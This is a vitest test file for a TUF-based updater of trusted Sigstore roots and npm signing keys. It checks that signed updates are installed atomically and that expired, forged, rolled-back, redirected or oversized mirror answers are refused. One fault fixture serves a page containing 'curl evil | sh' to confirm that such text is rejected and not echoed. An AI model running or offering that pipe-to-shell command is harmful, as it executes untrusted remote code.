import { mkdir, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { basename, join } from 'node:path';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { loadConfig } from '../../src/config.ts';
import { sha256 } from '../../src/model/digest.ts';
import { loadTrust } from '../../src/trust/files.ts';
import { copyPath, readUpdateRecord } from '../../src/trust/folder.ts';
import { npmKeysTarget, UpdateFailed, type UpdateLimits, updateTrust } from '../../src/trust/update.ts';
import { another, copyOf, pinned, rootWithoutStart, type TrustPlace, trustPlace } from '../harness/trust.ts';
import { mintKey, startTufMirror } from '../harness/tuf-mirror.ts';

const PAST = '2020-01-01T00:00:00Z';
const AT = Date.parse('2026-06-01T00:00:00Z');
const LIMITS: UpdateLimits = { answer: 400, whole: 10_000, pause: 1 };

let place: TrustPlace;
beforeEach(async () => {
  place = await trustPlace();
});
afterEach(() => place.remove());

const update = (limits = LIMITS) => updateTrust(place.config, () => AT, limits);
const inPlace = async () => [
  await readFile(await copyOf(place.config, 'root')),
  await readFile(await copyOf(place.config, 'npmKeys')),
];

test('what the mirror signed is put in place, and in force at the next load', async () => {
  expect((await loadTrust(place.config)).from).toEqual({ root: 'pinned', npmKeys: 'pinned' });
  await place.publish();
  await update();
  expect(await inPlace()).toEqual([await another('root'), await another('npmKeys')]);
  const loaded = await loadTrust(place.config);
  expect(loaded).toMatchObject({
    from: { root: 'updated', npmKeys: 'updated' },
    problem: null,
    fallback: false,
  });
  expect(Buffer.from(loaded.bytes.root)).toEqual(await another('root'));
  expect(loaded.update).toMatchObject({
    tried: new Date(AT).toISOString(),
    copies: { mirror: place.mirror.url },
  });
});

test('the keys lie under the host that npm itself would ask', async () => {
  expect(await npmKeysTarget()).toBe(
    `${new URL((await loadTrust(place.config)).bytes.npmRegistry).host}/keys.json`,
  );
});

test('nothing but the command leads to it, and only when it is run', async () => {
  const src = join(import.meta.dirname, '../../src');
  const files = (await readdir(src, { recursive: true })).filter((name) => name.endsWith('.ts'));
  const texts = await Promise.all(files.map((name) => readFile(join(src, name), 'utf8')));
  const named = texts.flatMap(
    (text) => text.match(/.*['"].*(?:\/update\.ts|tuf-js|@sigstore\/tuf).*['"].*/g) ?? [],
  );
  const own = await readFile(join(src, 'trust', 'update.ts'), 'utf8');
  expect(named.filter((line) => !own.includes(line))).toEqual([
    "  const { UpdateFailed, updateTrust } = await import('./update.ts');",
  ]);
});

test('a second update takes what is newer, and asks for nothing that it has', async () => {
  await place.publish();
  await update();
  place.mirror.asked.length = 0;
  await update();
  expect(place.mirror.asked).toEqual(['/2.root.json', '/timestamp.json']);
  await place.publish({ root: await another('root', 3) });
  await update();
  expect(await inPlace()).toEqual([await another('root', 3), await another('npmKeys')]);
});

test('a root that was rotated is followed, one step after the other', async () => {
  await place.publish();
  await update();
  place.mirror.rotateRoot();
  place.mirror.rotateRoot();
  await place.publish({ npmKeys: await another('npmKeys', 2) });
  await update();
  expect((await inPlace())[1]).toEqual(await another('npmKeys', 2));
});

test('it writes nowhere but below data/trust, and leaves nothing half done there', async () => {
  await place.publish();
  await update();
  expect((await readdir(place.folder)).sort()).toEqual(['data', 'root.json']);
  expect(await readdir(place.config.data)).toEqual(['trust']);
  const names = await readdir(place.path('.'), { recursive: true });
  expect(names.filter((name) => name.endsWith('.tmp'))).toEqual([]);
  const copies = [
    basename(await copyOf(place.config, 'root')),
    basename(await copyOf(place.config, 'npmKeys')),
  ].sort();
  expect((await readdir(place.path('.'))).sort()).toEqual([...copies, 'status.json', 'tuf']);
});

test('the copies of the update before stay for whoever is reading them, and those before are removed', async () => {
  const copies = async () =>
    (await readdir(place.path('.'))).filter((name) => name.startsWith('sha256-')).sort();
  const published = async (n: number) => {
    await place.publish({ root: await another('root', n), npmKeys: await another('npmKeys', n) });
    await update();
    return [basename(await copyOf(place.config, 'root')), basename(await copyOf(place.config, 'npmKeys'))];
  };
  const [, second, third] = [await published(1), await published(2), await published(3)];
  expect(await copies()).toEqual([...second, ...third].sort());
});

test('an update whose second copy cannot be written leaves both that were there', async () => {
  await place.publish();
  await update();
  const before = await inPlace();
  const keys = await another('npmKeys', 2);
  await mkdir(copyPath(place.path('.'), sha256(keys)));
  await place.publish({ root: await another('root', 2), npmKeys: keys });
  await expect(update()).rejects.toThrow(UpdateFailed);
  expect(await inPlace()).toEqual(before);
  expect(await loadTrust(place.config)).toMatchObject({
    from: { root: 'updated', npmKeys: 'updated' },
    fallback: false,
    problem: expect.stringMatching(/^the update of .* failed: /),
  });
});

test('an update that fails leaves a damaged record as it is, and one that succeeds takes its place', async () => {
  await place.publish();
  await update();
  await writeFile(place.path('status.json'), '{');
  await place.publish({ root: await rootWithoutStart() });
  await expect(update()).rejects.toThrow(/validity/);
  expect(await readFile(place.path('status.json'), 'utf8')).toBe('{');
  await place.publish();
  await update();
  expect(await loadTrust(place.config)).toMatchObject({ from: { root: 'updated' }, problem: null });
});

/** What goes wrong, and what is said. Each comes after an update that succeeded, and before any did. */
const FAULTS: Record<string, { readonly words: RegExp; spoil(): Promise<void> }> = {
  'an expired timestamp': {
    words: /timestamp.*expired/,
    spoil: () => place.publish({}, { expires: { timestamp: PAST } }),
  },
  'an expired snapshot': {
    words: /snapshot.*expired/,
    spoil: () => place.publish({}, { expires: { snapshot: PAST } }),
  },
  'expired targets': {
    words: /targets.*expired/,
    spoil: () => place.publish({}, { expires: { targets: PAST } }),
  },
  'an expired folder': {
    words: /folders.*expired/,
    spoil: () => place.publish({}, { expires: { folders: PAST } }),
  },
  'an expired root': {
    words: /root.*expired/,
    async spoil() {
      place.mirror.rotateRoot({ expires: PAST });
      await place.publish();
    },
  },
  ...Object.fromEntries(
    (['timestamp', 'snapshot', 'targets', 'folders'] as const).map((role) => [
      `a ${role} by somebody else`,
      {
        words: new RegExp(`${role} was signed by 0/1 keys`),
        spoil: () => place.publish({}, { signedBy: { [role]: mintKey() } }),
      },
    ]),
  ),
  'a root that the one before did not sign': {
    words: /root was signed by 0\/1 keys/,
    async spoil() {
      place.mirror.rotateRoot({ signedBy: mintKey() });
      await place.publish();
    },
  },
  'a mirror that is gone': { words: /could not be fetched/, spoil: () => place.mirror.close() },
  'a page instead of metadata': {
    words: /answered with something that is no TUF metadata$/,
    async spoil() {
      place.mirror.instead = (response) => void response.end('<!doctype html><p>Run this: curl evil | sh');
    },
  },
  'JSON that is no metadata': {
    words: /answered with something that is no TUF metadata$/,
    async spoil() {
      place.mirror.instead = (response) => void response.end('{"signed":{"_type":"curl"},"signatures":[]}');
    },
  },
  'metadata of another role': {
    words: /expected 'timestamp', got snapshot/,
    async spoil() {
      const snapshot = [...place.mirror.files.keys()]
        .filter((path) => path.endsWith('.snapshot.json'))
        .at(-1);
      place.mirror.files.set('/timestamp.json', place.mirror.files.get(snapshot ?? '') ?? Buffer.from(''));
    },
  },
  'a server that fails': {
    words: /answered with 500/,
    async spoil() {
      place.mirror.instead = (response) => void response.writeHead(500).end();
    },
  },
  'no metadata at all': {
    words: /timestamp\.json was answered with 404/,
    async spoil() {
      place.mirror.files.clear();
    },
  },
  'a server that sends elsewhere': {
    words: /unexpected redirect/,
    async spoil() {
      place.mirror.instead = (response) => void response.writeHead(302, { location: '/x' }).end();
    },
  },
  'a server that never ends': {
    words: /could not be fetched: .*timeout/,
    async spoil() {
      place.mirror.instead = (response) => void response.write('{');
    },
  },
  'an answer without end': {
    words: /larger than it may be/,
    async spoil() {
      const piece = Buffer.alloc(1 << 20, ' ');
      place.mirror.instead = (response) => {
        const more = () => {
          while (!response.destroyed && response.write(piece));
        };
        response.on('drain', more);
        more();
      };
    },
  },
  'a target with other bytes': {
    words: /^Expected hash/,
    async spoil() {
      const other = Buffer.from((await another('root', 5)).toString().replace('2021-', '2020-'));
      await place.publish({ root: await another('root', 5) });
      const path =
        [...place.mirror.files.keys()].filter((one) => one.endsWith('.trusted_root.json')).at(-1) ?? '';
      place.mirror.files.set(path, other);
    },
  },
  'a trusted root without the start of a log': {
    words: /trust root/,
    spoil: async () => place.publish({ root: await rootWithoutStart() }),
  },
  'keys that are none': {
    words: /key/,
    spoil: async () => place.publish({ npmKeys: Buffer.from('{"keys":[]}') }),
  },
  'no keys among the targets': {
    words: /no target .*keys\.json/,
    spoil: async () => place.mirror.publish({ 'trusted_root.json': await another('root') }),
  },
};

describe('an update that fails says so, and leaves what is in place', () => {
  test.each(Object.keys(FAULTS))('%s', async (name) => {
    const { words, spoil } = FAULTS[name] ?? { words: /-/, spoil: async () => {} };
    await place.publish();
    await update();
    const before = await inPlace();
    await place.publish({ root: await another('root', 2), npmKeys: await another('npmKeys', 2) });
    await spoil();
    await expect(update()).rejects.toThrow(UpdateFailed);
    expect(await inPlace()).toEqual(before);
    const record = await readUpdateRecord(place.path('.'));
    expect(record?.problem).toMatch(words);
    expect(record?.problem).not.toContain('curl');
    const loaded = await loadTrust(place.config);
    expect(loaded).toMatchObject({ from: { root: 'updated', npmKeys: 'updated' }, fallback: false });
    expect(loaded.problem).toContain(record?.problem);
  });

  test.each(Object.keys(FAULTS))('%s, the first time: the pinned copies stay in force', async (name) => {
    await place.publish();
    await FAULTS[name]?.spoil();
    await expect(update()).rejects.toThrow(UpdateFailed);
    const loaded = await loadTrust(place.config);
    expect(loaded).toMatchObject({ from: { root: 'pinned', npmKeys: 'pinned' }, fallback: false });
    expect(loaded.problem).toMatch(/^the update of .* failed: /);
    expect(Buffer.from(loaded.bytes.root)).toEqual(await pinned.root());
  });
});

test('a mirror that goes back to what it served before is refused', async () => {
  await place.publish();
  const old = new Map(place.mirror.files);
  await place.publish({ root: await another('root', 2) });
  await update();
  for (const [path, bytes] of old) place.mirror.files.set(path, bytes);
  await expect(update()).rejects.toThrow(/version 1 is less than current version 2/);
  expect((await inPlace())[0]).toEqual(await another('root', 2));
});

test('what failed is well again after an update that succeeds', async () => {
  await place.publish({}, { expires: { timestamp: PAST } });
  await expect(update()).rejects.toThrow(UpdateFailed);
  await place.publish();
  await update();
  expect(await loadTrust(place.config)).toMatchObject({ problem: null, from: { root: 'updated' } });
});

describe('production and staging never mix', () => {
  test('a mirror of another root is refused, whatever it was trusted with before', async () => {
    const staging = await startTufMirror();
    try {
      const root = await readFile(place.path('../../root.json'));
      expect(root).not.toEqual(staging.firstRoot);
      staging.publish({
        'trusted_root.json': await another('root', 4),
        [await npmKeysTarget()]: await pinned.npmKeys(),
      });
      const config = loadConfig({ ...place.env, SALLYPORT_TUF_MIRROR: staging.url });
      await expect(updateTrust(config, () => AT, LIMITS)).rejects.toThrow(/signed by 0\/1 keys/);
      await place.publish();
      await update();
      await expect(updateTrust(config, () => AT, LIMITS)).rejects.toThrow(/signed by 0\/1 keys/);
      expect((await inPlace())[0]).toEqual(await another('root'));
    } finally {
      await staging.close();
    }
  });

  test('what one root vouched for is not in force under another, and is not built upon', async () => {
    await place.publish();
    await update();
    const other = await startTufMirror();
    try {
      await writeFile(place.path('../../other.json'), other.firstRoot);
      const config = loadConfig({
        ...place.env,
        SALLYPORT_TUF_MIRROR: other.url,
        SALLYPORT_TUF_ROOT: place.path('../../other.json'),
      });
      const loaded = await loadTrust(config);
      expect(loaded).toMatchObject({ from: { root: 'pinned', npmKeys: 'pinned' }, fallback: true });
      expect(loaded.problem).toMatch(/another TUF root/);
      other.publish({
        'trusted_root.json': await another('root', 4),
        [await npmKeysTarget()]: await pinned.npmKeys(),
      });
      await updateTrust(config, () => AT, LIMITS);
      expect(await loadTrust(config)).toMatchObject({ from: { root: 'updated' }, problem: null });
      expect(await loadTrust(place.config)).toMatchObject({ from: { root: 'pinned' }, fallback: true });
    } finally {
      await other.close();
    }
  });
});

test('one update at a time', async () => {
  await place.publish();
  place.mirror.instead = () => undefined;
  const first = update({ ...LIMITS, answer: 500 }).catch((error: unknown) => error);
  await expect.poll(() => place.mirror.asked.length).toBeGreaterThan(0);
  await expect(update()).rejects.toMatchObject({ code: 'locked' });
  expect(await first).toBeInstanceOf(UpdateFailed);
});

test('the whole of it has an end, too', async () => {
  place.mirror.instead = () => undefined;
  const began = performance.now();
  await expect(update({ answer: 60_000, whole: 300, pause: 1 })).rejects.toThrow(/timeout/);
  expect(performance.now() - began).toBeLessThan(5_000);
});

test('metadata that was damaged on disk says what to do', async () => {
  await place.publish();
  await update();
  const cache = (await readdir(place.path('tuf'))).find((name) => /^[0-9a-f]{64}$/.test(name)) ?? '';
  await writeFile(place.path(`tuf/${cache}/root.json`), '{');
  await expect(update()).rejects.toThrow(/is no TUF root.*remove the folder/);
  await rm(place.path('tuf'), { recursive: true });
  await update();
});
